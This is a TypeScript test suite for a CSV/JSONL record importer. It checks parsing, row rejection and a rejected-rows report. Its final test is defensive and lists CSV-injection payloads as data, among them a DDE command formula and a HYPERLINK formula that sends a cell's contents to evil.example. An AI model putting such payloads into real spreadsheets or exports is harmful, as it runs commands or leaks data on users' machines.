import { isConnectorError } from '@diplodesk/connector-sdk';
import { describe, expect, it } from 'vitest';
import { collectImport, formatRejectedReport, type ImportOptions, type ImportProgress, type ImportResult, importRecords } from './import-records.ts';

const encode = (text: string) => new TextEncoder().encode(text);

async function* chunked(bytes: Uint8Array, size: number): AsyncGenerator<Uint8Array> {
  for (let i = 0; i < bytes.length; i += size) yield bytes.subarray(i, i + size);
}

async function run(input: string | Uint8Array, options: ImportOptions, chunkSize = 7) {
  const bytes = typeof input === 'string' ? encode(input) : input;
  const importRun = importRecords(chunked(bytes, chunkSize), options);
  const results: ImportResult[] = [];
  for await (const result of importRun) results.push(result);
  return { results, summary: importRun.summary, items: results.flatMap((r) => ('item' in r ? [r.item] : [])), rejected: results.flatMap((r) => ('rejected' in r ? [r.rejected] : [])) };
}

const CSV = [
  '\uFEFFid;isi;penulis;tanggal;tautan;bahasa',
  '1;"Indonesia menyambut baik; ""kesepakatan"" ASEAN\r\nbaris kedua";kemlu_ri;2025-08-17 10:00:00;https://kemlu.go.id/1;id',
  '2;Plain text;;Sun, 17 Aug 2025 10:00:00 +0700;not a url;en-GB',
  '3;too;few',
  '4;;someone;2025-08-17;;id',
  '5;Bell\u0007 in text;x;2025-08-17;;id',
  '6;Bad date;x;kemarin;;id',
  '7;Missing date;x;;;id',
  '8;Last row without newline;x;1755424800;;id',
].join('\r\n');

const CSV_MAPPING = { remoteId: 'id', text: 'isi', author: 'penulis', publishedAt: 'tanggal', url: 'tautan', language: 'bahasa' };

describe('importRecords: CSV', () => {
  it('imports good rows and rejects bad ones with reasons, going on to the end', async () => {
    const { items, rejected, summary } = await run(CSV, { format: 'csv', mapping: CSV_MAPPING });
    expect(items).toEqual([
      {
        remoteId: '1',
        text: 'Indonesia menyambut baik; "kesepakatan" ASEAN\r\nbaris kedua',
        author: { remoteAccountId: 'kemlu_ri', handle: 'kemlu_ri' },
        publishedAt: '2025-08-17T10:00:00.000Z',
        url: 'https://kemlu.go.id/1',
        language: 'id',
        raw: { row: 1 },
      },
      // An unusable URL is dropped rather than rejecting the row.
      { remoteId: '2', text: 'Plain text', publishedAt: '2025-08-17T03:00:00.000Z', language: 'en-GB', raw: { row: 2 } },
      { remoteId: '8', text: 'Last row without newline', author: { remoteAccountId: 'x', handle: 'x' }, publishedAt: '2025-08-17T10:00:00.000Z', language: 'id', raw: { row: 8 } },
    ]);
    expect(rejected.map((r) => [r.row, r.line, r.reason])).toEqual([
      [3, 5, 'column-count'],
      [4, 6, 'empty-text'],
      [5, 7, 'control-characters'],
      [6, 8, 'invalid-date'],
      [7, 9, 'missing-date'],
    ]);
    expect(rejected[0]).toMatchObject({ detail: 'expected 6 fields, found 3', raw: '3;too;few' });
    expect(rejected[2]?.detail).toBe('column "isi" contains the control character U+0007');
    expect(rejected[3]?.detail).toContain('"kemarin"');
    expect(summary).toEqual({ rows: 8, imported: 3, rejected: 5, reasons: { 'column-count': 1, 'empty-text': 1, 'control-characters': 1, 'invalid-date': 1, 'missing-date': 1 } });
  });

  it('rejects a row with invalid UTF-8 and keeps the rows after it', async () => {
    const bytes = new Uint8Array([...encode('text,date\nok,2025-01-01\nWindows-1252 caf'), 0xe9, ...encode(',2025-01-01\nalso ok,2025-01-02\n')]);
    const { items, rejected } = await run(bytes, { format: 'csv', mapping: { text: 'text', publishedAt: 'date' } }, 5);
    expect(items.map((i) => i.text)).toEqual(['ok', 'also ok']);
    expect(rejected).toEqual([{ row: 2, line: 3, reason: 'invalid-utf8', detail: 'field 1 is not valid UTF-8 (save the file as UTF-8)', raw: 'Windows-1252 caf\uFFFD,2025-01-01' }]);
  });

  it('cuts the raw text of a rejected row to 200 characters', async () => {
    const { rejected } = await run(`a,b\n${'x'.repeat(500)}\n`, { format: 'csv', mapping: { text: 'b' } });
    expect(rejected[0]?.raw).toHaveLength(200);
  });

  it('hashes rows without an id into stable ids, equal for identical rows', async () => {
    const input = 'text,date\nsame,2025-01-01\nsame,2025-01-01\nother,2025-01-01\n';
    const first = await run(input, { format: 'csv', mapping: { text: 'text', publishedAt: 'date' } });
    const again = await run(input.replaceAll('\n', '\r\n'), { format: 'csv', mapping: { text: 'text', publishedAt: 'date' } }, 3);
    const ids = first.items.map((i) => i.remoteId);
    expect(ids[0]).toMatch(/^sha256:[0-9a-f]{32}$/);
    expect(ids[0]).toBe(ids[1]);
    expect(ids[2]).not.toBe(ids[0]);
    expect(again.items.map((i) => i.remoteId)).toEqual(ids);
  });

  it('uses the default date when no column is mapped to it, and keeps a title', async () => {
    const { items } = await run('judul\tteks\nSiaran pers\tIsi siaran\n', { format: 'csv', mapping: { text: 'teks', title: 'judul' }, defaultPublishedAt: '2025-01-01T00:00:00.000Z' });
    expect(items).toEqual([{ remoteId: expect.stringMatching(/^sha256:/), text: 'Isi siaran', publishedAt: '2025-01-01T00:00:00.000Z', raw: { row: 1, title: 'Siaran pers' } }]);
  });

  it('reads a headerless file with positional column names', async () => {
    const { items } = await run('1\t20250101\thello\n2\t20250102\tworld\n', { format: 'csv', delimiter: '\t', hasHeader: false, mapping: { remoteId: 'column_1', text: 'column_3' } });
    expect(items.map((i) => [i.remoteId, i.text])).toEqual([
      ['1', 'hello'],
      ['2', 'world'],
    ]);
  });

  it('refuses a mapping that names a column the file lacks, and a UTF-16 file', async () => {
    const error = await run('a,b\n1,2\n', { format: 'csv', mapping: { text: 'isi' } }).catch((e: unknown) => e);
    expect(isConnectorError(error, 'rejected')).toBe(true);
    expect((error as Error).message).toContain('"isi"');
    const utf16 = await run(new Uint8Array([0xff, 0xfe, 0x61, 0x00]), { format: 'csv', mapping: { text: 'a' } }).catch((e: unknown) => e);
    expect(isConnectorError(utf16, 'rejected')).toBe(true);
  });

  it('reports byte progress up to the file size', async () => {
    const bytes = encode(CSV);
    const progress: ImportProgress[] = [];
    const importRun = importRecords(chunked(bytes, 64), { format: 'csv', mapping: CSV_MAPPING, onProgress: (p) => progress.push(p) });
    for await (const _ of importRun) {
      // drain
    }
    expect(progress.length).toBeGreaterThan(1);
    expect(progress.at(-1)).toEqual({ bytes: bytes.length, rows: 8 });
    for (let i = 1; i < progress.length; i++) {
      expect(progress[i]!.bytes).toBeGreaterThanOrEqual(progress[i - 1]!.bytes);
      expect(progress[i]!.rows).toBeGreaterThanOrEqual(progress[i - 1]!.rows);
    }
  });
});

describe('importRecords: JSONL / NDJSON', () => {
  const JSONL = [
    '{"id":"a1","text":"First","created_at":"2025-08-17T10:00:00Z","user":{"screen_name":"alice"},"lang":"en"}',
    '',
    '{"id":"a2","text":"Broken", "created_at":',
    '[1,2,3]',
    '{"id":"a3","text":"Third \\u0000 nul","created_at":"2025-08-17T10:00:00Z"}',
    '   ',
    '{"id":"a4","text":"Fourth","created_at":1755424800000,"user":{"screen_name":"bob"}}\r',
    '{"id":"a5","text":"","created_at":"2025-08-17T10:00:00Z"}',
  ].join('\n');
  const mapping = { remoteId: 'id', text: 'text', publishedAt: 'created_at', author: 'user.screen_name', language: 'lang' };

  it.each(['jsonl', 'ndjson'] as const)('keeps the good lines around a broken one (%s)', async (format) => {
    const { items, rejected, summary } = await run(JSONL, { format, mapping });
    expect(items.map((i) => [i.remoteId, i.author?.handle, i.publishedAt])).toEqual([
      ['a1', 'alice', '2025-08-17T10:00:00.000Z'],
      ['a4', 'bob', '2025-08-17T10:00:00.000Z'],
    ]);
    expect(rejected.map((r) => [r.row, r.line, r.reason])).toEqual([
      [2, 3, 'invalid-json'],
      [3, 4, 'not-an-object'],
      [4, 5, 'control-characters'],
      [6, 8, 'empty-text'],
    ]);
    expect(rejected[0]?.raw).toBe('{"id":"a2","text":"Broken", "created_at":');
    expect(rejected[0]?.detail).toMatch(/^malformed JSON: /);
    expect(summary).toMatchObject({ rows: 6, imported: 2, rejected: 4 });
  });

  it('collects a summary and writes the rejected-rows report as CSV', async () => {
    const importRun = importRecords(chunked(encode(JSONL), 16), { format: 'jsonl', mapping });
    const seen: string[] = [];
    const result = await collectImport(importRun, (item) => {
      seen.push(item.remoteId);
    });
    expect(seen).toEqual(['a1', 'a4']);
    expect(result.reasons).toEqual({ 'invalid-json': 1, 'not-an-object': 1, 'control-characters': 1, 'empty-text': 1 });
    const report = formatRejectedReport(result.rejectedRows);
    expect(report.split('\r\n')[0]).toBe('row,line,reason,detail,raw');
    expect(report).toContain('2,3,invalid-json,');
    expect(report).toContain('"{""id"":""a2""');
  });
  it('neutralises spreadsheet formulas in every cell of the rejected-rows report (OWASP CSV injection)', () => {
    const hostile = ["=cmd|' /C calc'!A0", '+SUM(1,1)', '@SUM(1,1)', '=HYPERLINK("http://evil.example/?x="&A1,"Click")', '-2+3', '\tstarts with tab', '\rstarts with CR'];
    const report = formatRejectedReport(hostile.map((text, i) => ({ row: i + 1, line: i + 2, reason: 'empty-text', detail: text, raw: text })));
    const lines = report.split('\r\n').slice(1, -1);
    expect(lines).toHaveLength(hostile.length);
    expect(lines[0]).toBe(`1,2,empty-text,"'=cmd|' /C calc'!A0","'=cmd|' /C calc'!A0"`);
    expect(lines[1]).toBe(`2,3,empty-text,"'+SUM(1,1)","'+SUM(1,1)"`);
    expect(lines[2]).toBe(`3,4,empty-text,"'@SUM(1,1)","'@SUM(1,1)"`);
    expect(lines[3]).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"`);
    expect(lines[4]).toBe(`5,6,empty-text,"'-2+3","'-2+3"`);
    expect(lines[5]).toBe(`6,7,empty-text,"'\tstarts with tab","'\tstarts with tab"`);
    expect(report).toContain(`"'\rstarts with CR"`);
  });
});
